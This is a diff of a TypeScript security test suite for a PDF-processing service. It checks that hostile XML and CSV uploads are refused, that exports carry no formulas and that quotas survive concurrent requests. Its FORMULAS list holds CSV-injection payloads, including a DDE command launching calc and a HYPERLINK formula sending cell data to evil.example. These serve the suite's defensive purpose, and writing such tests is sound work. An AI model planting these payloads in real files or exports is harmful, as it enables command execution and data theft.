@@ -1,8 +1,10 @@
+import assert from "node:assert/strict";
+import { describe, it } from "@jest/globals";
 import { LIMITS } from "@takeoff/contracts";
-import { database, readAll, smallPdf, staff, tenant, uniqueSuffix, waitFor, type ApiAnswer, type Person } from "@takeoff/testing";
-import { told } from "../../faults/cases/told.ts";
-import { statuses, timed } from "../lab/calls.ts";
-import { expect, type AbuseCase, type Figures, type Lab } from "../lab/lab.ts";
+import { database, readAll, smallPdf, staff, tenant, uniqueSuffix, waitFor, type ApiResponse, type Person } from "@takeoff/testing";
+import { formatCounts } from "../harness/print.ts";
+import { statuses, timed } from "./harness/requests.ts";
+import { onProductionProduct, type ProductionHarness, type Figures } from "../harness/case.ts";
 
 const PATIENCE_MS = 60_000;
 
@@ -36,17 +38,17 @@ const CSV: Record<string, Buffer> = {
 const FORMULAS = ["=1+1", "+1+1", "-1+1", "@SUM(A1)", "=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example?"&A1)', "\t=1+1", "\r=1+1"];
 
 /** Results that attack who reads them: XML, CSV, and a page in place of a processed PDF. */
-async function resultFiles({ within }: Lab): Promise<Figures> {
+async function resultFiles({ within }: ProductionHarness): Promise<Figures> {
   const [{ user }, operator] = await Promise.all([tenant(), staff()]);
   const id = await uploaded(user);
-  const answers: ApiAnswer[] = [];
+  const answers: ApiResponse[] = [];
   let slowest = 0;
   const refuse = async (what: string, files: Parameters<Person["client"]["process"]>[1]): Promise<void> => {
     const { ms, value } = await timed(() => operator.client.process(id, files));
     slowest = Math.max(slowest, ms / 1000);
     answers.push(value);
     // Levels are well-formed: they may be taken, and then cost nothing.
-    expect(value.status === 422 || what === "100,000 levels", `${what} was answered ${value.status}`);
+    assert(value.status === 422 || what === "100,000 levels", `${what} was answered ${value.status}`);
   };
   for (const [what, xml] of Object.entries(XML)) await refuse(what, { xml });
   for (const [what, csv] of Object.entries(CSV)) await refuse(what, { csv });
@@ -59,10 +61,9 @@ async function resultFiles({ within }: Lab): Promise<Figures> {
   await proveNeutral(user, id);
   return {
     tried: answers.length,
-    answered: told(statuses(answers)),
+    answered: formatCounts(statuses(answers)),
     slowest: within("a refusal", slowest, 2),
     formulas: FORMULAS.length,
-    run: 0,
   };
 }
 
@@ -71,20 +72,20 @@ async function proveNeutral({ client }: Person, id: number): Promise<void> {
   await waitFor(extracted, { what: "the extraction", timeoutMs: PATIENCE_MS });
   const csv = (await client.get(`/pdfs/${id}/export?format=csv`, { expectOk: true })).body.toString("utf8");
   const cells = csv.split("\r\n").slice(1).join("\r\n");
-  expect(
+  assert(
     !/(^|[,\n]"?)[=+\-@\t\r]/.test(cells.replace(/^\ufeff/, "")),
     `an exported cell would be run: ${JSON.stringify(cells.slice(0, 300))}`,
   );
   const xlsx = (await client.get(`/pdfs/${id}/export?format=xlsx`, { expectOk: true })).body;
-  expect(!xlsx.includes("<f>"), "an exported workbook holds a formula");
+  assert(!xlsx.includes("<f>"), "an exported workbook holds a formula");
   for (const path of ["preview?version=processed", "preview", "download", "files/csv", "files/xml"]) {
     const { headers, stream } = await client.open("GET", `/pdfs/${id}/${path}`);
     await readAll(stream);
     const policy = headers.get("content-security-policy") ?? "";
-    const told = [headers.get("x-content-type-options"), /default-src 'none'/.test(policy), /sandbox/.test(policy)];
-    expect(told.join() === "nosniff,true,true", `${path} is sent with ${told.join()}`);
+    const protections = [headers.get("x-content-type-options"), /default-src 'none'/.test(policy), /sandbox/.test(policy)];
+    assert(protections.join() === "nosniff,true,true", `${path} is sent with ${protections.join()}`);
     const disposition = headers.get("content-disposition") ?? "";
-    expect(
+    assert(
       /^(inline|attachment); filename="[^"\r\n]*"; filename\*=UTF-8''[^"\r\n;]*$/.test(disposition),
       `${path} is named ${disposition}`,
     );
@@ -97,19 +98,22 @@ const ASKED = 25;
 /** Quotas that are asked for at once. */
 async function quotasRaced(): Promise<Figures> {
   const { user } = await tenant();
-  const create = (): Promise<ApiAnswer> =>
+  const create = (): Promise<ApiResponse> =>
     user.client.post("/user/parameters/custom", { parameter_name: `raced ${uniqueSuffix()}`, parameter_value: "1" });
   const parameters = await Promise.all(Array.from({ length: CUSTOM }, create));
   const created = parameters.filter(({ status }) => status === 201).length;
   const { length } = (await user.client.get("/user/parameters", { expectOk: true })).json as unknown[];
-  expect(created === LIMITS.customParameters && length === created, `${created} parameters were made, ${length} are there`);
+  assert(created === LIMITS.customParameters && length === created, `${created} parameters were made, ${length} are there`);
   const asked = await Promise.all(Array.from({ length: ASKED }, () => user.client.post("/forgot-password", { email: user.email })));
   const { rows } = await database().query("select 1 from identity.password_resets where user_id = $1", [user.id]);
-  expect(rows.length <= LIMITS.passwordResetsPerAccount, `${rows.length} reset links were made at once`);
-  return { parameters: told(statuses(parameters)), "reset requests": told(statuses(asked)), links: rows.length };
+  assert(rows.length <= LIMITS.passwordResetsPerAccount, `${rows.length} reset links were made at once`);
+  return { parameters: formatCounts(statuses(parameters)), "reset requests": formatCounts(statuses(asked)), links: rows.length };
 }
 
-export const RESULT_CASES: readonly AbuseCase[] = [
-  { name: "result-files", about: "XML with entities and depth, CSV with formulas, a page as processed PDF", run: resultFiles },
-  { name: "quotas-raced", about: "parameters and reset links beyond their number, all at once", quick: true, run: quotasRaced },
-];
+describe("result-files", () => {
+  it("rejects XML with entities, broken CSV and a page as processed PDF, and exports no formula", onProductionProduct(resultFiles));
+});
+
+describe("quotas-raced (quick)", () => {
+  it("holds the quotas of parameters and reset links under concurrent requests", onProductionProduct(quotasRaced));
+});
